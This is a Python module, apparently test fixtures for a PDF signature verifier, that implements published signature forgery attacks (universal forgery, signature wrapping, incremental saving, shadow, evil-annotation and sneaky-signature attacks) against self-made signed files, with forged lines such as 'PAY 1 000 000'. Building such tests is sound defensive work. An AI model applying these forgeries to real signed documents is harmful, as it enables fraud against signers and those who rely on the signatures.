"""Forgeries of signed PDFs, one function per published attack, made from our own signed files.

Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019): USF, ISA, SWA. Mainka et al., "Shadow Attacks" (NDSS 2021). Rohlmann et al.,
"Breaking the Specification: PDF Certification" (S&P 2021): EAA, SSA. Each takes the bytes of a signed file and returns the forged ones.
"""

import re
from collections.abc import Callable
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.content import RawContent
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.layout import BoxConstraints

_CONTENTS = re.compile(rb"/Contents <[0-9a-fA-F]+>")
_RANGE = re.compile(rb"/ByteRange \[[^\]]*\]")


def _padded(new: bytes, length: int) -> bytes:
    assert len(new) <= length
    return new + b" " * (length - len(new))


def _replace(pdf: bytes, pattern: re.Pattern[bytes], new: bytes) -> bytes:
    """Replace the first match by `new`, padded with blanks to the same length."""
    found = pattern.search(pdf)
    assert found
    return pdf[: found.start()] + _padded(new, len(found[0])) + pdf[found.end() :]


# Universal signature forgery: the signature is there, but there is nothing to check.


def usf_contents_empty(pdf: bytes) -> bytes:
    """`/Contents` is an empty string."""
    return _replace(pdf, _CONTENTS, b"/Contents <>")


def usf_contents_zero(pdf: bytes) -> bytes:
    """`/Contents` is one zero byte."""
    return _replace(pdf, _CONTENTS, b"/Contents <00>")


def usf_contents_null(pdf: bytes) -> bytes:
    """`/Contents` is null."""
    return _replace(pdf, _CONTENTS, b"/Contents null")


def usf_contents_missing(pdf: bytes) -> bytes:
    """There is no `/Contents`."""
    return _replace(pdf, _CONTENTS, b"")


def usf_contents_zeros(pdf: bytes) -> bytes:
    """`/Contents` keeps its length and holds zeros only."""
    found = _CONTENTS.search(pdf)
    assert found
    return _replace(pdf, _CONTENTS, b"/Contents <" + b"0" * (len(found[0]) - 12) + b">")


def usf_range_missing(pdf: bytes) -> bytes:
    """There is no `/ByteRange`."""
    return _replace(pdf, _RANGE, b"")


def usf_range_null(pdf: bytes) -> bytes:
    """`/ByteRange` is null."""
    return _replace(pdf, _RANGE, b"/ByteRange null")


def usf_range_empty(pdf: bytes) -> bytes:
    """`/ByteRange` is an empty array."""
    return _replace(pdf, _RANGE, b"/ByteRange []")


def usf_range_zero(pdf: bytes) -> bytes:
    """`/ByteRange` covers nothing."""
    return _replace(pdf, _RANGE, b"/ByteRange [0 0 0 0]")


def usf_range_negative(pdf: bytes) -> bytes:
    """`/ByteRange` has negative numbers."""
    return _replace(pdf, _RANGE, b"/ByteRange [0 -1 -1 9]")


def usf_range_beyond(pdf: bytes) -> bytes:
    """`/ByteRange` reaches beyond the file."""
    return _replace(pdf, _RANGE, b"/ByteRange [0 9 20 9999999]")


def usf_range_words(pdf: bytes) -> bytes:
    """`/ByteRange` holds names."""
    return _replace(pdf, _RANGE, b"/ByteRange [/a /b /c /d]")


# Signature wrapping: the signed bytes are kept, and the ranges led around something new.


def swa_gap(pdf: bytes) -> bytes:
    """The second range is moved behind injected objects; the old bytes are kept at the end, as the digest wants them."""
    numbers = _numbers(pdf)
    injected = b"\n9999 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + b" " * 64
    _, first, second, length = numbers
    moved = pdf[:second] + injected + pdf[second:]
    return _replace(moved, _RANGE, b"/ByteRange [0 %d %d %d]" % (first, second + len(injected), length))


def swa_second_dictionary(pdf: bytes) -> bytes:
    """A second `/ByteRange` in the same dictionary names other ranges."""
    numbers = _numbers(pdf)
    extra = b"/ByteRange [0 %d %d %d]" % (numbers[1] - 10, numbers[2], numbers[3])
    return pdf.replace(b"/Type /Sig\n", b"/Type /Sig\n" + extra + b"\n", 1)


def swa_overlap(pdf: bytes) -> bytes:
    """The second range begins inside the first."""
    _, first, _, length = _numbers(pdf)
    return _replace(pdf, _RANGE, b"/ByteRange [0 %d %d %d]" % (first, first - 50, length))


def swa_padding(pdf: bytes) -> bytes:
    """Data is hidden in the padding of `/Contents`, which no signature covers."""
    found = _CONTENTS.search(pdf)
    assert found
    return pdf[: found.end() - 41] + b"ab" * 20 + pdf[found.end() - 1 :]


def _numbers(pdf: bytes) -> list[int]:
    found = _RANGE.search(pdf)
    assert found
    return [int(number) for number in re.findall(rb"\d+", found[0])]


# Incremental saving: an update is appended after the signature.


def updated(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """Append an incremental update that `change` writes."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    change(writer)
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def replace_content(
    text: bytes = b"PAY 1 000 000", at: tuple[int, int] = (72, 700)
) -> Callable[[IncrementalPdfFileWriter], None]:
    """Return a change that gives page 1 another content."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, _ = writer.find_page_for_modification(0)
        page = page_ref.get_object()
        drawn = b"q 1 1 1 rg 0 0 595 842 re f 0 0 0 rg BT /F1 24 Tf %d %d Td (%s) Tj ET Q" % (*at, text)
        stream = generic.StreamObject(stream_data=drawn)
        page["/Contents"] = writer.add_object(stream)
        writer.update_container(page)

    return change


def add_content(
    text: bytes, at: tuple[int, int], size: int = 13, number: int = 0
) -> Callable[[IncrementalPdfFileWriter], None]:
    """Return a change that writes a line on a page (from 0) and keeps what is there (number and date of a records clerk)."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, _ = writer.find_page_for_modification(number)
        page = page_ref.get_object()
        drawn = b"q 0 0 0 rg BT /F1 %d Tf %d %d Td (%s) Tj ET Q" % (size, *at, text)
        old = page.raw_get("/Contents")
        parts = list(old.get_object()) if isinstance(old.get_object(), generic.ArrayObject) else [old]
        page["/Contents"] = generic.ArrayObject([*parts, writer.add_object(generic.StreamObject(stream_data=drawn))])
        writer.update_container(page)

    return change


def isa(pdf: bytes) -> bytes:
    """A well-formed update replaces the page's content."""
    return updated(pdf, replace_content())


def isa_without_eof(pdf: bytes) -> bytes:
    """The update has its `startxref` and no `%%EOF`: some readers never see it, viewers do."""
    forged = isa(pdf)
    return forged[: forged.rstrip().rfind(b"%%EOF")]


def isa_without_xref(pdf: bytes) -> bytes:
    """Objects alone are appended, for readers that rebuild the table."""
    root = re.findall(rb"/Root (\d+) 0 R", pdf)[-1]
    return pdf + b"\n%s 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" % root


def isa_fake_trailer(pdf: bytes) -> bytes:
    """A trailer is appended that points back to the old table, with another catalogue."""
    forged = isa(pdf)
    start = forged.rfind(b"startxref")
    old = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    return forged[:start] + b"startxref\n%s\n%%%%EOF\n" % old


def tail(pdf: bytes) -> bytes:
    """Something other than blanks follows the last `%%EOF`."""
    return pdf + b"\n% more to see here\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"


def page_added(pdf: bytes) -> bytes:
    """A page is added."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        from pyhanko.pdf_utils.writer import PageObject

        page = PageObject(contents=writer.add_object(generic.StreamObject(stream_data=b"")), media_box=(0, 0, 595, 842))
        writer.insert_page(page)

    return updated(pdf, change)


# Shadow attacks: content that was hidden before signing is made visible after it.


def shadow_base(pdf: bytes) -> bytes:
    """Prepare an unsigned file: text, covered by a white picture (form XObject `/Cover`)."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, _ = writer.find_page_for_modification(0)
        page = page_ref.get_object()
        cover = RawContent(b"1 1 1 rg 0 0 400 60 re f", box=BoxConstraints(400, 60)).as_form_xobject()
        resources = page["/Resources"]
        resources["/XObject"] = generic.DictionaryObject({pdf_name("/Cover"): writer.add_object(cover)})
        drawn = b"q BT /F1 24 Tf 80 520 Td (YOU OWE US 9 000 000) Tj ET 1 0 0 1 70 500 cm /Cover Do Q"
        page["/Contents"] = generic.ArrayObject(
            [page.raw_get("/Contents"), writer.add_object(generic.StreamObject(stream_data=drawn))]
        )
        writer.update_container(page)
        writer.update_container(resources)

    return updated(pdf, change)


def shadow_hide(pdf: bytes) -> bytes:
    """Hide: the covering picture is replaced by an empty one."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, _ = writer.find_page_for_modification(0)
        pictures = page_ref.get_object()["/Resources"]["/XObject"]
        cover = pictures["/Cover"]
        cover._data, cover._encoded_data = b"", None
        writer.mark_update(pictures.raw_get("/Cover"))

    return updated(pdf, change)


def shadow_replace(pdf: bytes) -> bytes:
    """Replace: a text field is given another appearance; its value stays."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        for reference in writer.root["/AcroForm"]["/Fields"]:
            field = reference.get_object()
            if field["/FT"] == "/Tx":
                box = BoxConstraints(300, 30)
                look = RawContent(b"BT /Helv 20 Tf 4 6 Td (ATTACKER 66) Tj ET", box=box).as_form_xobject()
                field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(look)})
                writer.mark_update(reference)

    return updated(pdf, change)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """Hide and replace: the catalogue is led to another page tree."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        stream = generic.StreamObject(stream_data=b"BT /F1 30 Tf 72 600 Td (OTHER DOCUMENT) Tj ET")
        page = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/MediaBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
                pdf_name("/Contents"): writer.add_object(stream),
            }
        )
        reference = writer.add_object(page)
        tree = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Pages"),
                pdf_name("/Kids"): generic.ArrayObject([reference]),
                pdf_name("/Count"): generic.NumberObject(1),
            }
        )
        page[pdf_name("/Parent")] = writer.add_object(tree)
        writer.root["/Pages"] = page.raw_get("/Parent")
        writer.update_root()

    return updated(pdf, change)


# Certification attacks: what a certification allows is used to lie.


def eaa(kind: str, rect: tuple[int, int, int, int] = (60, 480, 480, 600)) -> Callable[[bytes], bytes]:
    """Evil annotation attack: return a forger that lays an opaque annotation of `kind` over the page."""

    def forge(pdf: bytes) -> bytes:
        def change(writer: IncrementalPdfFileWriter) -> None:
            width, height = rect[2] - rect[0], rect[3] - rect[1]
            drawn = b"1 1 1 rg 0 0 %d %d re f 0 g 0 0 %d 4 re f BT /Helv 24 Tf 10 40 Td (PAY 1 000 000) Tj ET" % (
                width,
                height,
                width,
            )
            look = RawContent(drawn, box=BoxConstraints(width, height)).as_form_xobject()
            annotation = generic.DictionaryObject(
                {
                    pdf_name("/Type"): pdf_name("/Annot"),
                    pdf_name("/Subtype"): pdf_name(f"/{kind}"),
                    pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in rect]),
                    pdf_name("/F"): generic.NumberObject(4),
                    pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(look)}),
                }
            )
            page_ref, _ = writer.find_page_for_modification(0)
            writer.register_annotation(page_ref, writer.add_object(annotation))

        return updated(pdf, change)

    return forge


def ssa(pdf: bytes) -> bytes:
    """Sneaky signature attack: an unsigned signature field whose appearance is a forged line of text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        from pyhanko.sign.fields import SigFieldSpec, append_signature_field

        append_signature_field(writer, SigFieldSpec("Sneaky", on_page=0, box=(60, 480, 480, 600)))
        for reference in writer.root["/AcroForm"]["/Fields"]:
            field = reference.get_object()
            if field["/T"] == "Sneaky":
                drawn = b"1 1 1 rg 0 0 420 120 re f 0 g BT /Helv 24 Tf 10 40 Td (PAY 1 000 000) Tj ET"
                look = RawContent(drawn, box=BoxConstraints(420, 120)).as_form_xobject()
                field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(look)})
                writer.update_container(field)

    return updated(pdf, change)


# The rest: what is done to the file itself.


def form_removed(pdf: bytes) -> bytes:
    """The form with the signature field is taken out of the catalogue."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        del writer.root["/AcroForm"]
        writer.update_root()

    return updated(pdf, change)


def form_removed_and_content(pdf: bytes) -> bytes:
    """The form is removed and the page replaced."""
    return form_removed(isa(pdf))


def bit_flipped(pdf: bytes) -> bytes:
    """One bit inside the signed range is flipped."""
    place = pdf.index(b"/MediaBox") + 20
    return pdf[:place] + bytes([pdf[place] ^ 1]) + pdf[place + 1 :]


def signature_bit_flipped(pdf: bytes) -> bytes:
    """One bit of the signature value is flipped."""
    from asn1crypto import cms

    found = _CONTENTS.search(pdf)
    assert found
    der = bytes.fromhex(found[0][11:-1].decode())
    value = cms.ContentInfo.load(der)["content"]["signer_infos"][0]["signature"].native
    place = der.index(value) + len(value) // 2
    return pdf[: found.start() + 11 + 2 * place] + b"%02x" % (der[place] ^ 1) + pdf[found.start() + 13 + 2 * place :]


def end_cut(pdf: bytes) -> bytes:
    """The last byte is cut off."""
    return pdf[:-1]


def metadata_changed(pdf: bytes) -> bytes:
    """Only the title in the document information changes: harmless."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        info = generic.DictionaryObject({pdf_name("/Title"): generic.TextStringObject("Another title")})
        writer.set_info(writer.add_object(info))

    return updated(pdf, change)


def field_filled(value: str = "changed", *, appearance: bytes | None = None) -> Callable[[bytes], bytes]:
    """Return a change that fills the text field `Note`, and shows it where `appearance` draws it."""

    def forge(pdf: bytes) -> bytes:
        def change(writer: IncrementalPdfFileWriter) -> None:
            for reference in writer.root["/AcroForm"]["/Fields"]:
                field = reference.get_object()
                if field["/T"] == "Note":
                    field["/V"] = generic.TextStringObject(value)
                    if appearance is not None:
                        look = RawContent(appearance, box=BoxConstraints(300, 30)).as_form_xobject()
                        field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(look)})
                    writer.mark_update(reference)

        return updated(pdf, change)

    return forge


def with_text_field(pdf: bytes) -> bytes:
    """Prepare an unsigned file with a text field `Note`."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, _ = writer.find_page_for_modification(0)
        look = RawContent(b"", box=BoxConstraints(300, 30)).as_form_xobject()
        field = generic.DictionaryObject(
            {
                pdf_name("/FT"): pdf_name("/Tx"),
                pdf_name("/T"): generic.TextStringObject("Note"),
                pdf_name("/V"): generic.TextStringObject("as signed"),
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/P"): generic.IndirectObject(page_ref.idnum, page_ref.generation, writer),
                pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (72, 400, 372, 430)]),
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(look)}),
            }
        )
        reference = writer.add_object(field)
        writer.register_annotation(page_ref, reference)
        fields = generic.ArrayObject([reference])
        form = generic.DictionaryObject({pdf_name("/Fields"): fields})
        writer.root["/AcroForm"] = writer.add_object(form)
        writer.update_root()

    return updated(pdf, change)


def cover_widget(pdf: bytes) -> bytes:
    """The appearance of the last signature's field becomes a sheet of paper with other words."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        for reference in writer.root["/AcroForm"]["/Fields"]:
            field = reference.get_object()
            if field["/T"] == "Second":
                drawn = b"1 1 1 rg 0 0 560 320 re f"
                look = RawContent(drawn, box=BoxConstraints(560, 320)).as_form_xobject()
                field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(look)})
                writer.mark_update(reference)

    return updated(pdf, change)
